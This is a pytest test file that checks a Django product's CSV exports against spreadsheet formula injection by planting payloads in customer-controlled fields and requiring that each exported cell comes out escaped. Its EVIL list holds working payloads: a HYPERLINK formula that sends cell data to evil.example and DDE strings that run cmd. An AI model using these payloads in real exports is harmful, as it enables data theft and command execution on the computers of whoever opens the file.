"""A14: a file of ours opens harmlessly in a spreadsheet, whatever a customer wrote into it."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.urls import get_resolver

from accounts.api.exports import FORMULA, cell, written
from billing import actions as billing
from tests.abuses.attacker import Attacker
from tests.api.office import Office
from tests.cast import BY, IMAGE
from tests.flows.five import OPENAI, Wish
from tests.flows.wire import eventually
from tests.law.test_isolation import walk

ROOT = Path(__file__).resolve().parents[2]
EVIL = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=1+1",,"', "=1\n=2",
)  # fmt: skip


@pytest.mark.parametrize("value", EVIL)
def test_a_text_that_would_be_a_formula_begins_with_an_apostrophe(value: str) -> None:
    """A14: and is quoted, so that it stays one cell of one row."""
    (row,) = csv.reader(io.StringIO(written([["before", value, "after"]]).decode(), newline=""))
    assert row == ["before", f"'{value}", "after"]


@pytest.mark.parametrize(
    ("value", "shown"),
    [(-5, -5), (Decimal("-0.0387"), "-0.0387"), (Decimal("1E+3"), "1000"), (None, ""), ("", ""),
     ("a=1", "a=1"), ("2026-11-01", "2026-11-01"), (0, 0)],
)  # fmt: skip
def test_numbers_and_ordinary_texts_are_left_alone(value: Any, shown: Any) -> None:
    """A14: a negative amount is a number and no formula."""
    assert cell(value) == shown


def test_one_place_writes_files() -> None:
    """A14: nobody else uses the csv module, or makes an answer of that type."""
    found = set()
    for room in ("accounts", "billing", "generations", "platform"):
        for path in (ROOT / room).rglob("*.py"):
            tree = ast.parse(path.read_text())
            if any(isinstance(node, ast.Import) and node.names[0].name == "csv" for node in ast.walk(tree)):
                found.add(path.relative_to(ROOT).as_posix())
    assert found == {"accounts/api/exports.py"}


def exports() -> Iterator[str]:
    """Every address of the management API that makes a file."""
    for path, view in walk(get_resolver("config.api").url_patterns):
        operation = getattr(getattr(getattr(view, "cls", None), "get", None), "operation", None)
        if operation is not None and "csv" in getattr(operation.query().fields.get("format"), "choices", {}):
            yield path


@pytest.fixture(scope="module")
def poisoned(attacker: Attacker, office: Office) -> Attacker:
    """Everything that a customer may name is a formula."""
    for number, evil in enumerate(EVIL[:4]):
        made = office.do("POST", "keys", {"name": evil}, 201)
        headers = {"User-Agent": evil.strip(), "Idempotency-Key": f"{evil} {number}"}
        answer = attacker.submit(OPENAI, OPENAI.spell(Wish(evil)), made["secret"], headers=headers)
        assert answer.status_code == 200, answer.text
        billing.grant(organization=attacker.cast.organization, amount=IMAGE, reason=evil, by=BY)
    office.do("PATCH", "organization", {"name": EVIL[0]})
    eventually(lambda: len(office.get("usage", by="key", **{"from": "2026-01-01"})["data"]) >= 4)
    return attacker


@pytest.mark.parametrize("path", sorted(exports()))
def test_no_cell_of_any_file_is_a_formula(poisoned: Attacker, office: Office, path: str) -> None:
    """A14 through the product: keys, prompts, reasons, and whatever else ends in a file."""
    query = {"format": "csv", **({"by": "key"} if path == "usage" else {})}
    answer = office.send("GET", path, params=query)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert len(rows) > 4
    assert len({len(row) for row in rows}) == 1, "no text breaks out of its cell"
    cells = [text for row in rows for text in row]
    assert [text for text in cells if text.startswith(FORMULA) and not is_number(text)] == []
    if path != "usage":  # its lines name ids
        assert any(text.startswith("'") for text in cells), "the formulas did get here"


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_these_are_the_files() -> None:
    """A14: a new one is walked by itself; this only says that the walk finds them."""
    assert set(exports()) >= {"usage", "entries", "generations"}
